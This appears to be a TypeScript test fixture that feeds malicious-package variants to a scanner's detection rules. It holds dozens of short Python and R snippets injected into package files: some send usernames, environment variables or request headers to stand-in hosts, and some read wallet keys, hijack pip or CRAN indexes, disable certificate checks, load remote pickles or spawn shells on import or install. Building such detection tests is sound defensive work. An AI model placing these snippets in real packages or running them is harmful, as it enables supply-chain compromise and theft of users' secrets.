import { add, inFile, type Pattern, program } from "./change.ts";

/** Attacks of other kinds, written to find what the rules lacked; most of that was then added. */

const inInit = (text: string): Pattern => inFile("{package}/__init__.py", text);
const inMethod = (text: string): Pattern =>
  inFile("{package}/client.py", `def more(self):\n${text.replace(/^/gm, "    ")}`);

export const furtherPythonVariants: Readonly<Record<string, Pattern>> = {
  "further variant: records that are logged elsewhere": inInit(
    "import logging.handlers as h\nh.HTTPHandler('collect.example', '/p', method='POST').emit(None)",
  ),
  "further variant: a call of XML-RPC": inMethod(
    "import xmlrpc.client as x\nx.ServerProxy('http://collect.example').keep(self.key)",
  ),
  "further variant: a connection of multiprocessing": inInit(
    "from multiprocessing.connection import Client as C\nC(('203.0.113.9', 99)).send('x')",
  ),
  "further variant: a file in a bucket": inMethod(
    "import boto3\nboto3.client('s3').upload_file('/etc/hostname', 'collect', self.key)",
  ),
  "further variant: a hook in another package": inInit(
    "import requests\n_send = requests.Session.send\n\n\ndef _hooked(self, request, **more):\n    _keep(request.headers)\n    return _send(self, request, **more)\n\n\nrequests.Session.send = _hooked",
  ),
  "further variant: another open": inInit("import builtins\nbuiltins.open = lambda *a: None"),
  "further variant: a module in place of another": inInit(
    "import sys\nfrom . import client\nsys.modules['requests'] = client",
  ),
  "further variant: certificates that nobody checks": inInit(
    "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
  ),
  "further variant: code in a file of data": inInit(
    "from pathlib import Path\nexec((Path(__file__).parent / 'colors.dat').read_text())",
  ),
  "further variant: a module in a file of data": inMethod(
    "import importlib.util as u, importlib.machinery as m\ns = u.spec_from_loader('x', m.SourceFileLoader('x', self.path))\ns.loader.exec_module(u.module_from_spec(s))",
  ),
  "further variant: a path that is searched first": inInit("import sys\nsys.path.insert(0, '/tmp/.cache')"),
  "further variant: a pickle that is fetched": inMethod(
    "import pickle, urllib.request as r\nreturn pickle.load(r.urlopen('https://collect.example/m'))",
  ),
  "further variant: marshal from a file": inInit(
    "import marshal\nwith open(__file__ + '.dat', 'rb') as f:\n    exec(marshal.load(f))",
  ),
  "further variant: YAML that makes objects": inMethod(
    "import yaml\nreturn yaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.UnsafeLoader)",
  ),
  "further variant: a shell by pty on import": inInit("import pty\npty.spawn(['/bin/sh', '-c', 'id'])"),
  "further variant: a program by multiprocessing": inInit(
    "import multiprocessing.util as u\nu.spawnv_passfds(b'/bin/id', [b'id'], ())",
  ),
  "further variant: who the user is, by mail": inMethod(
    "import getpass, smtplib\nsmtplib.SMTP('203.0.113.9').sendmail('a@b.example', 'c@collect.example', getpass.getuser())",
  ),
  "further variant: keys of a wallet": inMethod(
    "from pathlib import Path\nreturn [p.read_text() for p in Path.home().glob('.config/solana/*.json')]",
  ),
  "further variant: a profile of the shell by pathlib": inMethod(
    "from pathlib import Path\n(Path.home() / '.zshrc').open('a').write('export PATH=/tmp:$PATH')",
  ),
  "further variant: pip configured": inMethod(
    "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]\\nindex-url = https://collect.example/simple')",
  ),
  "further variant: an index by the environment": inInit(
    "import os\nos.environ['PIP_INDEX_URL'] = 'https://collect.example/simple'",
  ),
  "further variant: a library loaded on import": {
    change: {
      "{package}/__init__.py": add(
        "\nimport ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'data', 'colors.bin'))\n",
      ),
      "{package}/data/colors.bin": program,
    },
  },
  "further variant: an installer in setup.cfg": {
    only: "source",
    change: {
      "setup.cfg": "[options]\ncmdclass =\n    install = harborlog._install.Install\n",
      "{package}/_install.py":
        "from setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        import os\n        os.system('id')\n",
    },
  },
  "further variant: a backend that is another package": {
    only: "source",
    change: { "pyproject.toml": () => '[build-system]\nrequires = ["harborbuild"]\nbuild-backend = "harborbuild"\n' },
  },
  "further variant: a task in a notebook's start": inMethod(
    "import os\nopen(os.path.expanduser('~/.ipython/profile_default/startup/00.py'), 'w').write('import harborlog')",
  ),
};

const inR = (text: string): Pattern => inFile("R/refresh.R", `more <- function(key) {\n${text}\n}`);
const onLoad = (text: string): Pattern => inFile("R/zzz.R", `.onLoad <- function(libname, pkgname) {\n${text}\n}`);

export const furtherRVariants: Readonly<Record<string, Pattern>> = {
  "further variant: a hook for another package": onLoad(
    "setHook(packageEvent('stats', 'onLoad'), function(...) system('id'))",
  ),
  "further variant: another function in utils": onLoad(
    "utils::assignInNamespace('install.packages', function(...) NULL, ns = 'utils')",
  ),
  "further variant: a traced function": onLoad("trace('readRDS', quote(cat('x')), where = baseenv())"),
  "further variant: objects that are fetched": inR("unserialize(url('https://collect.example/x', 'rb'))"),
  "further variant: data that is fetched and loaded": inR("load(url('https://collect.example/x.rda'))"),
  "further variant: a program by Tcl": inR("tcltk::tcl('exec', 'id')"),
  "further variant: code for V8": inR("V8::v8()$eval(rawToChar(as.raw(c(49, 43, 49))))"),
  "further variant: bytecode": inR("compiler::loadcmp(key)"),
  "further variant: workers on other machines": inR("parallel::makePSOCKcluster('203.0.113.9')"),
  "further variant: a proxy": onLoad("Sys.setenv(http_proxy = 'http://203.0.113.9:8080')"),
  "further variant: another library first": onLoad(".libPaths(c('/tmp/lib', .libPaths()))"),
  "further variant: a shared object": onLoad("dyn.load(system.file('data', 'x.bin', package = pkgname))"),
  "further variant: repositories by options": onLoad("options(repos = c(CRAN = 'https://collect.example'))"),
  "further variant: a server": inR(
    "httpuv::runServer('0.0.0.0', 8080, list(call = function(req) eval(parse(text = req$QUERY_STRING))))",
  ),
  "further variant: a socket": inR("con <- socketConnection('203.0.113.9', 4444)\nwriteLines(Sys.getenv('HOME'), con)"),
  "further variant: variables that are posted": inR(
    "httr::POST('https://collect.example', body = as.list(Sys.getenv()))",
  ),
  "further variant: a task after each command": onLoad(
    "addTaskCallback(function(expr, ...) { cat(deparse(expr), file = '~/.log', append = TRUE); TRUE })",
  ),
};
